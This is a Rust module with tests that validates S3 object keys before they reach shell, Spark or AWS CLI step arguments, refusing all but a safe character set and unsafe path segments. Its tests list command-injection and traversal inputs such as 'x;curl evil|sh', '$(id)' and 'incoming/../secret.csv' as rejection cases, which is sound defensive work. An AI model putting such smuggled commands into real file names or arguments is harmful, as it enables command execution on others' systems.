//! The key of an object that triggered a run, checked before it can reach a
//! step. Pure.
//!
//! `{object}` in a step's arguments becomes `s3://<bucket>/<key>`, and a step
//! may hand it to a shell (`bash -c`), to Spark or Hadoop (which read globs,
//! comma-separated path lists and URI syntax) or to the AWS CLI. Rather than
//! quoting for each of them, sparkhub accepts only keys that none of them reads
//! specially: letters, digits and `/ . _ - = +`, in non-empty path segments
//! other than `.` and `..` (Hadoop normalises those away, which could leave
//! the trigger's prefix), at most 1024 bytes (S3's limit). Everything else —
//! spaces, `; | & $ ( ) < > \` ' " \ * ? [ ] { } , # : ~ ! %`, control and
//! non-ASCII characters — is refused and the run does not start.

use std::fmt;

/// S3's limit on a key, in bytes.
pub const MAX_KEY_BYTES: usize = 1024;

/// The characters a key may use besides ASCII letters and digits.
pub const ALLOWED_PUNCTUATION: &str = "/._-=+";

/// A key that is safe to put into a step argument.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ObjectKey(String);

/// Why a key was refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum KeyError {
    #[error("the key is empty")]
    Empty,
    #[error("the key is {0} bytes long, more than S3's {MAX_KEY_BYTES}")]
    TooLong(usize),
    #[error(
        "the key contains {0:?} at byte {1}; keys that trigger runs may use only letters, digits and \"/._-=+\" (a shell or Spark would read other characters specially)"
    )]
    Character(char, usize),
    #[error(
        "the key has an empty, \".\" or \"..\" path segment; name the object without them (\"a/b.csv\", not \"a//b.csv\" or \"a/../b.csv\")"
    )]
    Segment,
}

impl ObjectKey {
    pub fn parse(key: &str) -> Result<Self, KeyError> {
        if key.is_empty() {
            return Err(KeyError::Empty);
        }
        if key.len() > MAX_KEY_BYTES {
            return Err(KeyError::TooLong(key.len()));
        }
        if let Some((at, c)) = key
            .char_indices()
            .find(|(_, c)| !(c.is_ascii_alphanumeric() || ALLOWED_PUNCTUATION.contains(*c)))
        {
            return Err(KeyError::Character(c, at));
        }
        if key
            .split('/')
            .any(|segment| matches!(segment, "" | "." | ".."))
        {
            return Err(KeyError::Segment);
        }
        Ok(Self(key.to_owned()))
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Display for ObjectKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn ordinary_keys_pass() {
        for key in [
            "incoming/2026-11-25/batch-0001.csv",
            "a",
            "data/year=2026/month=11/part-00000.parquet",
            "x+y_z.json",
        ] {
            assert_eq!(ObjectKey::parse(key).unwrap().as_str(), key);
        }
    }

    #[test]
    fn keys_a_shell_or_spark_would_read_are_refused() {
        for key in [
            "x;curl evil|sh",
            "incoming/$(id).csv",
            "incoming/`id`.csv",
            "incoming/a b.csv",
            "incoming/a&b.csv",
            "incoming/a>b",
            "incoming/*.csv",
            "incoming/a?.csv",
            "incoming/{a,b}.csv",
            "incoming/a,b.csv",
            "incoming/a#b",
            "incoming/a:b",
            "incoming/~a",
            "incoming/a'b",
            "incoming/a\"b",
            "incoming/a\\b",
            "incoming/a%20b",
            "incoming/a\nb",
            "incoming/ä.csv",
        ] {
            assert!(
                matches!(ObjectKey::parse(key), Err(KeyError::Character(..))),
                "{key:?}"
            );
        }
        for key in ["incoming/../secret.csv", "incoming//a", "/a", "a/", "./a"] {
            assert_eq!(ObjectKey::parse(key), Err(KeyError::Segment), "{key:?}");
        }
        assert_eq!(ObjectKey::parse(""), Err(KeyError::Empty));
        assert_eq!(
            ObjectKey::parse(&"a".repeat(1025)),
            Err(KeyError::TooLong(1025))
        );
        let message = ObjectKey::parse("x;curl evil|sh").unwrap_err().to_string();
        assert!(
            message.contains("';'") && message.contains("/._-=+"),
            "{message}"
        );
    }

    proptest! {
        #![proptest_config(ProptestConfig {
            cases: 4000,
            rng_seed: proptest::test_runner::RngSeed::Fixed(14),
            failure_persistence: None,
            ..ProptestConfig::default()
        })]

        /// Any string: a key or a typed refusal, never a panic; what passes
        /// holds nothing a shell, Hadoop or a URI parser reads specially.
        #[test]
        fn any_string_is_a_safe_key_or_a_refusal(key in any::<String>()) {
            if let Ok(parsed) = ObjectKey::parse(&key) {
                prop_assert!(parsed.as_str().bytes().all(|b| b.is_ascii_alphanumeric() || b"/._-=+".contains(&b)));
                prop_assert!(!parsed.as_str().split('/').any(|s| s.is_empty() || s == "." || s == ".."));
            }
        }

        /// Keys drawn mostly from the allowed characters, with an occasional
        /// special one: the verdict matches the rule exactly.
        #[test]
        fn the_verdict_is_the_rule(key in "[a-z0-9/._=+;|&$ *?,:%-]{0,40}") {
            let allowed = key.chars().all(|c| c.is_ascii_alphanumeric() || "/._-=+".contains(c));
            let segments_ok = !key.is_empty() && !key.split('/').any(|s| s.is_empty() || s == "." || s == "..");
            prop_assert_eq!(ObjectKey::parse(&key).is_ok(), allowed && segments_ok);
        }
    }
}
